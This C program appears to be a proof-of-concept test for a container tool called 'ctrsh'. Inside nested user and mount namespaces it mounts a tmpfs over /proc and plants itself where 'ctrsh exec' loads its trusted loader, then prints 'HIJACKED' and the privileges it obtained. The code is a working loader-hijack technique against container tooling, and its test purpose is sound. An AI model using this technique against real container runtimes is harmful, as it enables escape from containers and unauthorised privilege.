/* PID 1 of a ctrsh user-namespace container: moves itself into a nested user and mount namespace
 * (no capability needed: it is root of the container's user namespace), keeps the real /proc at
 * /tmp/rp and mounts a tmpfs over /proc holding itself at /proc/self/fd/3/ld-linux-x86-64.so.2,
 * the path `ctrsh exec` runs its trusted loader from after nsenter. Run under that name, it
 * prints the privileges it got (they should be no more than PID 1's: its bounding set, no_new_privs). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static int put(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd < 0) return -1;
    int rc = write(fd, text, strlen(text)) < 0 ? -1 : 0;
    close(fd);
    return rc;
}

static int copy(const char *from, const char *to) {
    int in = open(from, O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    char buf[65536];
    ssize_t n;
    if (in < 0 || out < 0) return -1;
    while ((n = read(in, buf, sizeof buf)) > 0)
        if (write(out, buf, n) != n) return -1;
    close(in);
    close(out);
    return 0;
}

int main(int argc, char **argv) {
    (void)argc;
    if (strstr(argv[0], "ld-linux")) {
        char line[256];
        FILE *f = fopen("/tmp/rp/self/status", "r");
        printf("HIJACKED\n");
        while (f && fgets(line, sizeof line, f))
            if (!strncmp(line, "CapBnd", 6) || !strncmp(line, "CapEff", 6) || !strncmp(line, "NoNewPrivs", 10) ||
                !strncmp(line, "Uid", 3))
                fputs(line, stdout);
        return 0;
    }
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) { perror("unshare"); return 1; }
    if (put("/proc/self/setgroups", "deny") || put("/proc/self/uid_map", "0 0 1") ||
        put("/proc/self/gid_map", "0 0 1")) { perror("maps"); return 1; }
    mkdir("/tmp/rp", 0755);
    if (mount("/proc", "/tmp/rp", NULL, MS_BIND | MS_REC, NULL)) { perror("rbind"); return 1; }
    if (copy("/tmp/rp/self/exe", "/tmp/hijack")) { perror("copy"); return 1; }
    if (mount("x", "/proc", "tmpfs", 0, "mode=0755")) { perror("tmpfs over /proc"); return 1; }
    mkdir("/proc/self", 0755);
    mkdir("/proc/self/fd", 0755);
    mkdir("/proc/self/fd/3", 0755);
    if (copy("/tmp/hijack", "/proc/self/fd/3/ld-linux-x86-64.so.2")) { perror("plant"); return 1; }
    printf("ready\n");
    fflush(stdout);
    for (;;) pause();
}
